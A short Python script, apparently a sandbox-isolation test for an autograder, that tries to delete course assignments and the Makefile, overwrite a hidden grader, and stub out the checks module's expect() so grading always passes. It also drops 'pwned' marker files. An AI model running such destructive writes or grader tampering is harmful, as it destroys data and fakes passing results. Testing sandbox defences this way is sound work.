import os
import pathlib
import shutil

import autograder

course = pathlib.Path(autograder.__file__).resolve().parent.parent
attempts = [
    lambda: shutil.rmtree(course / "assignments"),
    lambda: (course / "autograder" / "graders" / "linear" / "hidden.py").write_text("# gone\n"),
    lambda: (course / "autograder" / "checks.py").write_text("def expect(*a, **k): pass\n"),
    lambda: os.remove(course / "Makefile"),
    lambda: (course / "solutions" / "pwned.txt").write_text("x"),
    lambda: pathlib.Path("/tmp/autograder-pwned.txt").write_text("x"),
]
for attempt in attempts:
    try:
        attempt()
    except OSError:
        pass
